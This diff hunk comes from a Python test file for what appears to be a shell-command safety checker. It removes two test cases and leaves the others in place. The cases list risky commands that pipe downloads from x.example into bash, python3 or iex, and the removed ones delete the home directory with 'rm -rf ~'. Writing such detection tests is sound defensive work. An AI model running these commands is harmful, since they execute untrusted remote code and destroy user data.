@@ -229,8 +229,6 @@ def test_wrappers_that_run_nothing(script: str) -> None:
         ("curl -s https://x.example/i.sh | sudo bash -s", REASON_PIPE_INTO_INTERPRETER),
         ("curl -s https://x.example/i.py | python3", REASON_PIPE_INTO_INTERPRETER),
         ("iwr https://x.example/a.ps1 | iex", REASON_PIPE_INTO_INTERPRETER),
-        ("bash <<'EOF'\nrm -rf ~\nEOF", REASON_STDIN_INTERPRETER),
-        ("bash <<< 'rm -rf ~/'", REASON_STDIN_INTERPRETER),
         ("python3 - <<'EOF'\nimport shutil\nEOF", REASON_STDIN_INTERPRETER),
         ("$CMD arg", REASON_DYNAMIC_PROGRAM),
         ("${CMD} arg", REASON_DYNAMIC_PROGRAM),
